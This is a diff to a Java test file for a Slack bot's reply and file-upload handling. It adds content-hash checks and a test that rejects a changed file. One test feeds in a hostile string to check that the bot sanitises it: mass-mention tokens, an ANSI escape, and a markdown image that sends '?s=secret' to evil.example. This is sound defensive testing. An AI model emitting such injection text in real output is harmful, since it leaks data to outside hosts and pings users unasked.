@@ -1,5 +1,6 @@
 package dev.gorkie.slack;
 
+import static java.nio.charset.StandardCharsets.UTF_8;
 import static java.util.stream.Collectors.joining;
 import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
@@ -19,6 +20,7 @@ import jakarta.inject.Inject;
 import java.io.ByteArrayInputStream;
 import java.math.BigDecimal;
 import java.time.Duration;
+import java.util.HexFormat;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
@@ -409,14 +411,15 @@ class ReplyTest {
   @Test
   void hostile_text_pings_nobody_on_any_path() throws InterruptedException {
     var hostile =
-        "<!channel> <@U0GORKIEBOT> @here ![x](https://evil.example/?s=secret) \u001b[31m [a](https://evil.example)";
+        "<!channel> <@U0GORKIEBOT> @here ![x](https://evil.example/?s=secret) \u001b[31m"
+            + " [a](https://evil.example)";
     try (var reply = slack.open("turn-1")) {
       reply.step(hostile, hostile, hostile);
       reply.stepFailed(hostile, hostile);
       reply.note(hostile);
       slack.await(thread -> thread.byApp().size() == 1);
-      var bytes = new byte[] {1};
-      reply.upload(HASH, hostile, hostile, 1, new ByteArrayInputStream(bytes));
+      var bytes = new byte[] {'1'};
+      reply.upload(Hash.of("1"), hostile, hostile, 1, new ByteArrayInputStream(bytes));
       var ping = "<!channel> <@U0GORKIEBOT> \u001b[31m";
       slack.answers(
           reply,
@@ -444,9 +447,10 @@ class ReplyTest {
     var content = new byte[3_000_000];
     new Random(9).nextBytes(content);
 
+    var hash = HexFormat.of().formatHex(Hash.digest().digest(content));
     try (var reply = slack.open("turn-1")) {
       reply.upload(
-          HASH, "dir/chart.png", "The chart", content.length, new ByteArrayInputStream(content));
+          hash, "dir/chart.png", "The chart", content.length, new ByteArrayInputStream(content));
     }
 
     var file = slack.await(thread -> thread.filesByApp().size() == 1).filesByApp().getFirst();
@@ -471,6 +475,26 @@ class ReplyTest {
               Failure.class,
               () -> reply.upload(HASH, "a", "", 0, new ByteArrayInputStream(new byte[0])));
       assertEquals(SlackFailure.EMPTY_FILE, empty.code());
+    }
+
+    assertEquals(List.of(), slack.workspace.calls("files.completeUploadExternal"));
+  }
+
+  @Test
+  void a_file_of_another_content_than_was_looked_at_is_not_shown() {
+    try (var reply = slack.open("turn-1")) {
+      var failure =
+          assertThrows(
+              Failure.class,
+              () ->
+                  reply.upload(
+                      Hash.of("looked at"),
+                      "a",
+                      "",
+                      9,
+                      new ByteArrayInputStream("exchanged".getBytes(UTF_8))));
+
+      assertEquals(SlackFailure.FILE_CHANGED, failure.code());
     }
 
     assertEquals(List.of(), slack.workspace.calls("files.completeUploadExternal"));
